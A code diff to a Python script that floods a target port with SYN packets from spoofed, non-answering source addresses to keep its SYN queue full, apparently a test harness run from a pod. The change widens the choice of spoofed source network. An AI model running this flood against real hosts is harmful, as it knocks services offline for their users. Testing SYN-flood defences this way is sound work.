@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""half_open.py SOURCE ADDRESS PORT: IPv4 SYNs from addresses that answer nothing, so that the SYN queue stays full."""
+"""half_open.py NETWORK ADDRESS PORT: IPv4 SYNs from a network that answers nothing, so that the SYN queue stays full."""
 
 import ipaddress
 import itertools
@@ -28,7 +28,7 @@ def syn(source: bytes, destination: bytes, port: int) -> bytes:
 
 
 def main() -> None:
-    network = ipaddress.ip_network(f"{sys.argv[1]}/24", strict=False)
+    network = ipaddress.ip_network(sys.argv[1])
     destination = ipaddress.ip_address(sys.argv[2]).packed
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     print("ready", flush=True)
@@ -36,8 +36,7 @@ def main() -> None:
     for number in itertools.count():
         if time.monotonic() > end:
             break
-        # Addresses that the pod has a route to and nobody has.
-        source = network.network_address + 1000 + number % 200
+        source = network.network_address + 1 + number % (network.num_addresses - 2)
         raw.sendto(syn(source.packed, destination, int(sys.argv[3])), (sys.argv[2], 0))
         time.sleep(0.005)
 
